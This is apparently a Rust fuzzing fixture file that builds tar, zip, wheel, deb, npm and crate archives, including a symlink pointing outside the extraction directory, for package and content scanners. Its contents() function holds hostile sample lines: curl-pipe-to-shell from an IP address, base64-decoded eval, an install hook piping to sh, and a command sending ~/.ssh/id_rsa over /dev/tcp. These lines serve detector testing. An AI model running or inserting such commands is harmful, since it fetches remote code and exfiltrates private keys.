//! Archives, byte by byte.

use flate2::write::GzEncoder;
use flate2::{Compression, Crc};
use std::io::Write as _;

type Files<'a> = &'a [(&'a str, &'a [u8])];

/// One tar header with its content (POSIX ustar).
fn item(path: &str, kind: u8, link: &str, content: &[u8]) -> Vec<u8> {
    let mut block = [0u8; 512];
    let mut put = |at: usize, bytes: &[u8]| block[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, path.as_bytes());
    put(100, b"0000644");
    put(108, b"0000000");
    put(116, b"0000000");
    put(124, format!("{:011o}", content.len()).as_bytes());
    put(136, b"00000000000");
    put(148, b"        ");
    put(156, &[kind]);
    put(157, link.as_bytes());
    put(257, b"ustar\x0000");
    let sum: u32 = block.iter().map(|b| u32::from(*b)).sum();
    block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let padding = vec![0; content.len().next_multiple_of(512) - content.len()];
    [&block[..], content, &padding].concat()
}

fn tar(files: Files<'_>) -> Vec<u8> {
    let mut out: Vec<u8> = files.iter().flat_map(|(p, c)| item(p, b'0', "", c)).collect();
    out.extend([0; 1024]);
    out
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).expect("memory can be written");
    encoder.finish().expect("memory can be written")
}

/// Every kind of entry that tar knows.
fn tar_of_all_kinds() -> Vec<u8> {
    let long = "long/".repeat(30) + "name";
    [
        item("a/", b'5', "", b""),
        item("a/file", b'0', "", b"content"),
        item("a/link", b'2', "../../outside", b""),
        item("a/hard", b'1', "a/file", b""),
        item("pax", b'x', "", b"18 path=a/renamed\n"),
        item("ignored", b'0', "", b"x"),
        item("././@LongLink", b'L', "", format!("{long}\0").as_bytes()),
        item("short", b'0', "", b"y"),
        item("a/device", b'3', "", b""),
        vec![0; 1024],
    ]
    .concat()
}

/// A ZIP of stored files (APPNOTE 6.3).
fn zip(files: Files<'_>) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    let u16 = |n: usize| (n as u16).to_le_bytes();
    let u32 = |n: usize| (n as u32).to_le_bytes();
    for (name, content) in files {
        let mut crc = Crc::new();
        crc.update(content);
        let (len, named) = (u32(content.len()), u16(name.len()));
        let common = [
            &[20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0x58][..],
            &crc.sum().to_le_bytes(),
            &len,
            &len,
            &named,
            &[0, 0],
        ]
        .concat();
        directory.extend([b"PK\x01\x02\x14\x03", common.as_slice(), &[0; 10]].concat());
        directory.extend(u32(out.len()));
        directory.extend(name.as_bytes());
        out.extend([b"PK\x03\x04", common.as_slice(), name.as_bytes(), content].concat());
    }
    let end = [
        b"PK\x05\x06\0\0\0\0".as_slice(),
        &u16(files.len()),
        &u16(files.len()),
        &u32(directory.len()),
        &u32(out.len()),
        &[0, 0],
    ];
    [out, directory, end.concat()].concat()
}

/// An `ar` of the three members of a Debian package.
fn deb() -> Vec<u8> {
    let control =
        "Package: example\nVersion: 1.0\nArchitecture: amd64\nMaintainer: a\nDescription: b\n";
    let control = gzip(&tar(&[("./control", control.as_bytes()), ("./postinst", b"#!/bin/sh\n")]));
    let data = gzip(&tar(&[("./usr/bin/example", b"x")]));
    let mut out = b"!<arch>\n".to_vec();
    let members: [(&str, &[u8]); 3] =
        [("debian-binary", b"2.0\n"), ("control.tar.gz", &control), ("data.tar.gz", &data)];
    for (name, content) in members {
        out.extend(
            format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", 0, 0, 0, "100644", content.len())
                .bytes(),
        );
        out.extend(content);
        out.resize(out.len().next_multiple_of(2), b'\n');
    }
    out
}

fn wheel() -> Vec<u8> {
    let info = "example-1.0.dist-info";
    let metadata = b"Metadata-Version: 2.1\nName: example\nVersion: 1.0\n";
    zip(&[
        ("example/__init__.py", b""),
        (&format!("{info}/METADATA"), metadata),
        (&format!("{info}/WHEEL"), b"Wheel-Version: 1.0\nTag: py3-none-any\n"),
        (
            &format!("{info}/RECORD"),
            b"example/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n",
        ),
    ])
}

/// Archives of each kind.
pub fn plain() -> Vec<Vec<u8>> {
    vec![tar_of_all_kinds(), gzip(&tar_of_all_kinds()), wheel(), deb()]
}

/// Artifacts, with the byte in front that chooses what each is taken for.
pub fn artifacts() -> Vec<Vec<u8>> {
    let package = br#"{"name": "example", "version": "1.0", "scripts": {"postinstall": "node x"}}"#;
    let manifest = b"[package]\nname = \"example\"\nversion = \"1.0\"\nbuild = \"build.rs\"\n";
    let sdist = tar(&[
        ("example-1.0/PKG-INFO", b"Name: example\nVersion: 1.0\n"),
        ("example-1.0/setup.py", b""),
    ]);
    let npm = tar(&[("package/package.json", package), ("package/binding.gyp", b"{}")]);
    let krate =
        tar(&[("example-1.0/Cargo.toml", manifest), ("example-1.0/build.rs", b"fn main() {}")]);
    [wheel(), gzip(&sdist), gzip(&npm), gzip(&krate), deb(), zip(&[("a", b"b")])]
        .into_iter()
        .zip(0u8..)
        .map(|(bytes, choice)| [&[choice][..], &bytes].concat())
        .collect()
}

/// Compressed texts, with the byte in front that chooses the kind.
pub fn compressed() -> Vec<Vec<u8>> {
    let text = b"Package: a\n".repeat(50);
    vec![
        [&[0][..], &text].concat(),
        [&[1][..], &gzip(&text)].concat(),
        // The shortest of each other kind: its magic, and an empty or broken body.
        [&[2][..], b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46"].concat(),
        [&[3][..], b"\x5d\x00\x00\x80\x00\xff\xff\xff\xff\xff\xff\xff\xff\x00"].concat(),
        [&[4][..], b"\x04\x22\x4d\x18\x64\x40\xa7\x00\x00\x00\x00\x05\x5d\xcc\x02"].concat(),
        [&[5][..], b"\x28\xb5\x2f\xfd\x24\x03\x19\x00\x00abc\xbd\xb2\xff\x0a"].concat(),
        [&[6][..], b"BZh9\x17\x72\x45\x38\x50\x90\x00\x00\x00\x00"].concat(),
    ]
}

/// Files with their names and the manifest beside them, as the scanners of content see them.
pub fn contents() -> Vec<Vec<u8>> {
    let manifest: &[u8] = br#"{"name": "a", "version": "1.0", "scripts": {"preinstall": "node x.js | sh"}, "license": "MIT"}"#;
    let files: [(&str, &[u8]); 6] = [
        ("package/x.js", b"const c = require('child_process'); eval(Buffer.from('aHR0cHM6Ly8=', 'base64')); './y.sh'"),
        ("package/y.sh", b"curl http://203.0.113.7/x | sh; base64 -d x | bash; cat ~/.ssh/id_rsa > /dev/tcp/x/1"),
        ("package/setup.py", b"exec(__import__('base64').b64decode('cA==')); import subprocess, urllib.request"),
        ("package/build.rs", b"fn main() { Command::new(\"curl\"); env::vars(); }"),
        ("package/LICENSE", b"Permission is hereby granted, free of charge, to any person obtaining a copy of this software"),
        ("package/logo.png", b"\x7fELF\x02\x01\x01"),
    ];
    let join = |(path, content): (&str, &[u8])| {
        [path.as_bytes(), content, manifest].join(countersign_fuzz::SEPARATOR)
    };
    files.into_iter().map(join).collect()
}
